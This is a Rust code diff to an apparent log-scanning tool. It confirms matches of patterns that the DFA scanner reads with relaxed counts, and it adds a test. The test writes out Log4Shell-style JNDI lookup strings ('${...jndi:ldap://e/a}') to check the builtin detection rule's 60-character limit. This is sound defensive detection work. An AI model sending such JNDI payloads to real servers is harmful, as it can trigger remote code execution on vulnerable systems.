@@ -158,7 +158,17 @@ impl FieldSet {
     /// Which patterns match `text`, by index; `None` when none does.
     fn matches(&self, text: &[u8], fallbacks: &AtomicU64) -> Option<Vec<bool>> {
         match self.scanner.matches(text) {
-            Ok(found) => found,
+            Ok(Some(mut found)) => {
+                // A pattern read with its counts relaxed matched at least
+                // what it says: the pattern itself tells.
+                for (index, hit) in found.iter_mut().enumerate() {
+                    if *hit && self.scanner.relaxed(index) {
+                        *hit = self.patterns.get(index).is_some_and(|p| p.is_match(text));
+                    }
+                }
+                found.contains(&true).then_some(found)
+            }
+            Ok(None) => None,
             Err(_) => {
                 fallbacks.fetch_add(1, Ordering::Relaxed);
                 let matched: Vec<bool> = self.patterns.iter().map(|p| p.is_match(text)).collect();
@@ -1033,13 +1043,51 @@ mod tests {
                 };
                 let one_by_one: Vec<bool> = set.patterns.iter().map(|p| p.is_match(text)).collect();
                 assert_eq!(
-                    set.scanner.matches(text).unwrap(),
+                    dfa_answer(set, text),
                     one_by_one.contains(&true).then_some(one_by_one),
                     "field {} on {:?}",
                     set.field,
                     String::from_utf8_lossy(text)
                 );
             }
+        }
+    }
+
+    /// Which of `set`'s patterns match `text`, as its DFAs tell (with
+    /// relaxed patterns' matches confirmed); they must not give up.
+    fn dfa_answer(set: &FieldSet, text: &[u8]) -> Option<Vec<bool>> {
+        let fallbacks = AtomicU64::new(0);
+        let found = set.matches(text, &fallbacks);
+        assert_eq!(fallbacks.load(Ordering::Relaxed), 0, "field {}", set.field);
+        found
+    }
+
+    #[test]
+    fn a_match_of_a_pattern_read_relaxed_is_confirmed_by_the_pattern_itself() {
+        // Log4Shell's lookup allows 60 characters before the `j`; read
+        // relaxed, 61 match too.
+        let rules = crate::logs::builtin().unwrap();
+        let set = rules
+            .sets
+            .iter()
+            .find(|set| set.field == "url" && set.normalized)
+            .unwrap();
+        let log4shell = set
+            .patterns
+            .iter()
+            .position(|p| p.as_str().contains("jndi"))
+            .unwrap();
+        assert!(set.scanner.relaxed(log4shell));
+        for (dots, matches) in [(60, true), (61, false)] {
+            let text = format!("/a?q=${{{}jndi:ldap://e/a}}", ".".repeat(dots));
+            let told = set.scanner.matches(text.as_bytes()).unwrap();
+            assert!(told.is_some_and(|found| found[log4shell]), "{text}");
+            let confirmed = dfa_answer(set, text.as_bytes());
+            assert_eq!(
+                confirmed.is_some_and(|found| found[log4shell]),
+                matches,
+                "{text}"
+            );
         }
     }
 
@@ -1109,7 +1157,7 @@ mod tests {
                     .map(|p| p.is_match(text.as_bytes()))
                     .collect();
                 assert_eq!(
-                    set.scanner.matches(text.as_bytes()).unwrap(),
+                    dfa_answer(set, text.as_bytes()),
                     one_by_one.contains(&true).then_some(one_by_one),
                     "field {} on {:?}",
                     set.field,
